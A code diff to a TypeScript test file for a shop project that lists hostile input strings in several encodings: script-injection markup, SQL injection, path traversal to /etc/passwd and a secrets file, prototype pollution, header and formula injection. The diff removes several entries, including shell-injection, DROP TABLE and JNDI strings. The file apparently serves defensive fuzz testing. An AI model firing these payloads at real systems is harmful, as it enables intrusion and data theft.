@@ -1,4 +1,7 @@
-/** Hostile strings, each in several encodings; all written for this project. */
+/**
+ * Hostile strings, each in several encodings; all written for this project. They are those that could mean something to
+ * the shop, its libraries or a browser: no shell, template or SQL text ever meets one of these here.
+ */
 
 const MARKUP = [
   '<script>wbx()</script>',
@@ -9,27 +12,19 @@ const MARKUP = [
   '</textarea><b>wbx</b>',
   '</script><b>wbx</b>',
   '--><b>wbx</b>',
-  ']]><b>wbx</b>',
   '<a href="javascript:wbx()">wbx</a>',
-  '<math><mtext></mtext><b>wbx</b></math>',
   '<b>wbx</b>',
   '" autofocus onfocus="wbx()" x="',
   "' onmouseover='wbx()' x='",
-  '<!--<b>wbx</b>',
   '<\u0000script>wbx()</script>',
   '\u003cb\u003ewbx\u003c/b\u003e',
   '&lt;b&gt;wbx&lt;/b&gt;',
-  '<b\nonclick=wbx()>wbx',
   '<style>*{background:url(//wbx.example)}</style>',
   '<meta http-equiv=refresh content="0;url=//wbx.example">',
   '<base href=//wbx.example>',
 ]
 const QUERIES = [
   "' OR '1'='1",
-  "'; DROP TABLE gift_redemption_codes; --",
-  '" OR ""="',
-  '1; SELECT pg_sleep(5)',
-  "' UNION SELECT code FROM gift_redemption_codes --",
   'eq.1,or=(id.gt.0)',
   'code=neq.x',
   'a),or(redeemed.eq.true',
@@ -40,17 +35,13 @@ const QUERIES = [
   '{"$gt":""}',
   '\\',
   "\\'",
-  '$\u007bjndi:ldap://wbx.example/a}',
 ]
 const PATHS = [
   '../../../../etc/passwd',
-  '..\\..\\windows\\win.ini',
   '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
   '..%c0%af..%c0%afetc/passwd',
   '/etc/passwd\u0000.png',
   '.data/secrets/session',
-  'file:///etc/passwd',
-  'C:\\boot.ini',
   '//wbx.example',
   '/\\wbx.example',
   '/\t/wbx.example',
@@ -97,8 +88,6 @@ const NUMBERS = [
   'NaN',
   'Infinity',
   '0x10',
-  '0b11',
-  '1_000',
   '1.5',
   '1,5',
   '９',
@@ -109,9 +98,6 @@ const NUMBERS = [
   '+1',
   ' 1 ',
   '1e-7',
-  '00000000000000000000001',
-  '--1',
-  '1/0',
 ]
 const OBJECTS = [
   '__proto__',
@@ -127,21 +113,7 @@ const OBJECTS = [
   '[]',
   '{"__proto__":{"wbx":1}}',
   '{"constructor":{"prototype":{"wbx":1}}}',
-  '{{7*7}}',
-  '$\u007b7*7}',
-  '<%= 7*7 %>',
-  '#{7*7}',
-  '$(id)',
-  '`id`',
-  '; id',
-  '| id',
-  '&& id',
-  '%s%s%s%n',
-  '%x%x%x',
-  'Bearer eyJhbGciOiJub25lIn0.e30.',
-  'eyJhbGciOiJub25lIn0.e30.',
   'gid://shopify/ProductVariant/0',
-  'gid://shopify/ProductVariant/-1',
   'gid://shopify/Cart/x?key=y',
   'gid://shopify/ProductVariant/99999999999999',
 ]
@@ -165,9 +137,6 @@ const CHARACTERS = [
   '\u{10ffff}',
   'ﬃ ŉ ǰ ΐ ß',
   'İstanbul ıI',
-  'Ω≈ç√∫˜µ≤≥÷',
-  'السلام עליכם',
-  '田中さんにあげて下さい',
   'ｊａｖａｓｃｒｉｐｔ：',
   'a'.repeat(300),
   'ä'.repeat(2_500),
@@ -182,10 +151,7 @@ const CHARACTERS = [
   'a@b@c.example',
   'a@[127.0.0.1]',
   'a@b.example\r\nBcc: wbx@wbx.example',
-  "=cmd|'/c calc'!A0",
   '=HYPERLINK("//wbx.example")',
-  '+1+1',
-  '@SUM(1)',
   '%',
   '%%%',
   '%zz',
@@ -201,7 +167,6 @@ const CHARACTERS = [
   '[',
   'a[]=1',
   'a[b]=1',
-  'a.b.c',
 ]
 
 const ENCODINGS: readonly ((text: string) => string)[] = [
@@ -211,7 +176,7 @@ const ENCODINGS: readonly ((text: string) => string)[] = [
   (text) => `"${text}"`,
 ]
 
-/** Every string in every encoding: more than 600, without duplicates. */
+/** Every string in every encoding: more than 500, without duplicates. */
 export const HOSTILE: readonly string[] = [
   ...new Set(
     [...MARKUP, ...QUERIES, ...PATHS, ...PROTOCOL, ...NUMBERS, ...OBJECTS, ...CHARACTERS].flatMap((text) =>
